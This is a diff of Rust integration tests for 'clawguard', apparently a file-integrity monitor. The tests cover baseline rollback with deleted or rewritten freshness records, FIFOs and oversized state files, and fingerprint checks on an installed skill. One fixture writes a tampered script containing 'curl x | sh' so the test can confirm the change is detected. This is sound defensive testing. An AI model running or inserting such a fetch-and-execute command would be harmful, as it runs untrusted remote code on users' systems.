@@ -253,6 +253,7 @@ fn help_documents_the_exit_codes() {
         "1   entries added",
         "8   BASELINE REJECTED",
         "9   BASELINE REPLACED",
+        "14  NO FRESHNESS RECORD",
     ] {
         assert!(text.contains(needle), "{needle} missing from:\n{text}");
     }
@@ -337,4 +338,195 @@ fn which(name: &str) -> Result<PathBuf, ()> {
         .map(|d| d.join(name))
         .find(|p| p.is_file())
         .ok_or(())
+}
+
+/// Runs clawguard, killing it after `limit`: a read that blocks must fail
+/// the test, not hang it.
+fn run_bounded(env: &Env, args: &[&str], limit: std::time::Duration) -> Output {
+    use std::process::Stdio;
+    let mut child = Command::new(env!("CARGO_BIN_EXE_clawguard"))
+        .arg("--config")
+        .arg(&env.config)
+        .arg("--state-dir")
+        .arg(env.dir.path().join("state"))
+        .args(args)
+        .env_remove("CLAWGUARD_STATE_DIR")
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("run clawguard");
+    let started = std::time::Instant::now();
+    while child.try_wait().unwrap().is_none() {
+        if started.elapsed() > limit {
+            let _ = child.kill();
+            let _ = child.wait();
+            panic!("clawguard {args:?} still running after {limit:?}: blocked on a read");
+        }
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    child.wait_with_output().unwrap()
+}
+
+fn stderr(out: &Output) -> String {
+    String::from_utf8_lossy(&out.stderr).into_owned()
+}
+
+/// An older signed baseline, copied back after an `update`.
+fn rolled_back(e: &Env, tree: &str) -> PathBuf {
+    assert_eq!(code(&run(e, &["fim", "init", tree])), 0);
+    let baseline = e.dir.path().join("state/fim/baseline.cgfim");
+    let old = std::fs::read(&baseline).unwrap();
+    std::fs::write(e.tree.join("etc/passwd"), b"changed\n").unwrap();
+    assert_eq!(code(&run(e, &["fim", "update", tree])) & 8, 0);
+    assert_eq!(code(&run(e, &["fim", "check", tree])), 0);
+    std::fs::write(&baseline, &old).unwrap();
+    baseline
+}
+
+#[test]
+fn rollback_with_the_freshness_record_deleted_is_refused_with_its_own_code() {
+    let e = env("");
+    let tree = tree_arg(&e);
+    rolled_back(&e, &tree);
+    // Pin the key in the config too, as the issue's report did.
+    let public = std::fs::read_to_string(e.dir.path().join("state/fim/baseline.pub")).unwrap();
+    let config = std::fs::read_to_string(&e.config).unwrap();
+    std::fs::write(
+        &e.config,
+        format!("{config}public_key = \"{}\"\n", public.trim()),
+    )
+    .unwrap();
+    let digest = e.dir.path().join("state/fim/baseline.digest");
+    std::fs::remove_file(&digest).unwrap();
+    let out = run(&e, &["fim", "check", "--json", &tree]);
+    assert_eq!(code(&out), 14, "{}", stderr(&out));
+    assert_eq!(json(&out)["exit_code"], 14);
+    assert!(stderr(&out).contains("baseline.digest"), "{}", stderr(&out));
+    // update and accept refuse too: they would launder the old baseline.
+    assert_eq!(code(&run(&e, &["fim", "update", &tree])), 14);
+}
+
+#[test]
+fn a_rewritten_freshness_record_is_caught_by_the_generation_in_the_report_chain() {
+    let e = env("");
+    let tree = tree_arg(&e);
+    let baseline = e.dir.path().join("state/fim/baseline.cgfim");
+    let digest = e.dir.path().join("state/fim/baseline.digest");
+    assert_eq!(code(&run(&e, &["fim", "init", &tree])), 0);
+    let old = std::fs::read(&baseline).unwrap();
+    let old_digest = std::fs::read(&digest).unwrap();
+    std::fs::write(e.tree.join("etc/passwd"), b"changed\n").unwrap();
+    assert_eq!(code(&run(&e, &["fim", "update", &tree])) & 8, 0);
+    // The attacker restores both the old baseline and its digest record.
+    std::fs::write(&baseline, &old).unwrap();
+    std::fs::write(&digest, &old_digest).unwrap();
+    let out = run(&e, &["fim", "check", &tree]);
+    assert_eq!(code(&out), 9, "{}", stderr(&out));
+    assert!(stderr(&out).contains("generation"), "{}", stderr(&out));
+    // Deleting the chain instead of keeping it refuses too.
+    let chain = e.dir.path().join("state/fim/report.chain");
+    let kept = std::fs::read(&chain).unwrap();
+    std::fs::remove_file(&chain).unwrap();
+    let out = run(&e, &["fim", "check", &tree]);
+    assert_eq!(code(&out), 14, "{}", stderr(&out));
+    assert!(stderr(&out).contains("report.chain"), "{}", stderr(&out));
+    std::fs::write(&chain, kept).unwrap();
+    // Deleting the record as well still refuses (exit 14, not a plain diff).
+    std::fs::remove_file(&digest).unwrap();
+    assert_eq!(code(&run(&e, &["fim", "check", &tree])), 14);
+}
+
+fn mkfifo(path: &Path) {
+    let _ = std::fs::remove_file(path);
+    nix::unistd::mkfifo(path, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
+}
+
+#[test]
+fn fifos_where_fim_reads_its_files_are_refused_without_hanging() {
+    let limit = std::time::Duration::from_secs(20);
+    let state = |e: &Env, name: &str| e.dir.path().join("state/fim").join(name);
+    for (name, verb) in [
+        ("baseline.cgfim", "check"),
+        ("baseline.digest", "check"),
+        ("baseline.pub", "check"),
+        ("report.chain", "check"),
+        ("signing key", "update"),
+    ] {
+        let e = env("");
+        let tree = tree_arg(&e);
+        assert_eq!(code(&run(&e, &["fim", "init", &tree])), 0);
+        let path = if name == "signing key" {
+            e.dir.path().join("keys/fim.key")
+        } else {
+            state(&e, name)
+        };
+        if name == "report.chain" {
+            assert_eq!(code(&run(&e, &["fim", "check", &tree])), 0);
+        }
+        mkfifo(&path);
+        let out = run_bounded(&e, &["fim", verb, &tree], limit);
+        let err = stderr(&out);
+        assert!(code(&out) >= 8, "{name}: exit {} {err}", code(&out));
+        assert!(err.contains("not a regular file"), "{name}: {err}");
+    }
+}
+
+#[test]
+fn oversized_state_files_are_refused_by_their_bound() {
+    let e = env("");
+    let tree = tree_arg(&e);
+    assert_eq!(code(&run(&e, &["fim", "init", &tree])), 0);
+    // Sparse: 8 GiB of apparent size costs nothing on disk.
+    let digest = e.dir.path().join("state/fim/baseline.digest");
+    std::fs::File::create(&digest)
+        .unwrap()
+        .set_len(8 << 30)
+        .unwrap();
+    let out = run_bounded(
+        &e,
+        &["fim", "check", &tree],
+        std::time::Duration::from_secs(20),
+    );
+    assert!(code(&out) >= 8, "{}", stderr(&out));
+    assert!(stderr(&out).contains("larger than"), "{}", stderr(&out));
+}
+
+#[test]
+fn an_installed_clawhub_skill_with_scripts_is_not_reported_as_modified() {
+    let e = env("");
+    let skill = e.tree.join("skills/deploy-helper");
+    // The fingerprint `clawhub` 0.23.3 computed for exactly these files
+    // (`hashSkillFiles(await listSkillFiles(dir))`).
+    let fingerprint = "3b68a36cd2dc1becdbf0f397cfcb518584c0914eb1884eb59b8c3b51a5baede6";
+    for (path, text) in [
+        (
+            "SKILL.md",
+            "---\nname: deploy-helper\ndescription: Deploys the site.\n---\n# Deploy helper\n\nRun `scripts/deploy.sh`.\n",
+        ),
+        ("scripts/deploy.sh", "#!/bin/sh\necho deploying\n"),
+        ("references/api.md", "# API\n"),
+        ("assets/logo.txt", "logo\n"),
+        (
+            ".clawhub/origin.json",
+            &format!(
+                r#"{{"version":1,"registry":"https://clawhub.ai","slug":"deploy-helper","installedVersion":"1.0.0","installedAt":1765000000000,"fingerprint":"{fingerprint}"}}"#
+            ),
+        ),
+    ] {
+        let path = skill.join(path);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    }
+    let skills = e.tree.join("skills").display().to_string();
+    assert_eq!(code(&run(&e, &["fim", "init", &skills])), 0);
+    let out = run(&e, &["fim", "check", "--json", &skills]);
+    let report = json(&out);
+    assert_eq!(report["fingerprints"][0]["matches"], true, "{report}");
+    assert_eq!(code(&out), 0, "{report}");
+    // A script changed after install is still reported, after an update too.
+    std::fs::write(skill.join("scripts/deploy.sh"), "#!/bin/sh\ncurl x | sh\n").unwrap();
+    assert_eq!(code(&run(&e, &["fim", "update", &skills])) & 8, 0);
+    let out = run(&e, &["fim", "check", "--json", &skills]);
+    assert_eq!(code(&out), 4);
+    assert_eq!(json(&out)["fingerprints"][0]["matches"], false);
 }
